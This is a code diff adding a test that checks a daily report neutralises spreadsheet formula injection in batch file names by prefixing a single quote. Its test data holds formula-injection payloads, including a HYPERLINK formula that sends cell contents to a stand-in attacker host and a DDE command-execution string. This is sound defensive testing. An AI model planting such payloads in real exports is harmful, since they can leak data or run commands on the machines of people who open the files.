@@ -289,3 +289,26 @@ def test_a_group_with_many_bad_batches_is_read_once_more_not_once_per_bad_batch(
     assert reasons["missing/bad-1.msgpack"].startswith("invalid debug id: event 2")
     assert reasons["missing/bad-2.msgpack"].startswith("malformed msgpack: event 3")
     assert reasons["missing/bad-3.msgpack"].startswith("wrong type: event 2")  # before the byte
+
+
+def test_report_cells_a_spreadsheet_would_evaluate_are_neutralised(crontab, s3_bucket):
+    """Names from a batch writer that a spreadsheet takes for formulas (issue #24 item 8) get
+    a single quote in front in the daily report; other names are unchanged."""
+    today = crontab.now().astimezone(dt.timezone.utc).date()
+    noon = dt.datetime.combine(today - dt.timedelta(days=1), dt.time(12), dt.timezone.utc)
+    # (a tab or CR never reaches the report: the batch check refuses control characters)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)",
+               "=cmd|' /C calc'!A0"]
+    events = [{"debug_file": name, "debug_id": "A" * 33, "code_file": name, "code_id": "C0DE",
+               "seen_at": noon.isoformat(), "count": n}
+              for n, name in enumerate(hostile, 2)]
+    events.append({"debug_file": "plain-name.pdb", "debug_id": "B" * 33, "seen_at": noon.isoformat()})
+    write_batch(s3_client(), s3_bucket, events)
+    crontab.configure(entries(f"{AGGREGATE}|5m", f"{REPORT}|1d"), extra=ini(s3_bucket))
+    assert crontab.run() == (0, "")
+    rows = read_report(s3_bucket, today - dt.timedelta(days=1))[1:]
+    by_count = {int(r[4]): r for r in rows}
+    for n, name in enumerate(hostile, 2):
+        assert by_count[n][0] == by_count[n][2] == "'" + name, by_count[n]
+    assert by_count[1][0] == "plain-name.pdb"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
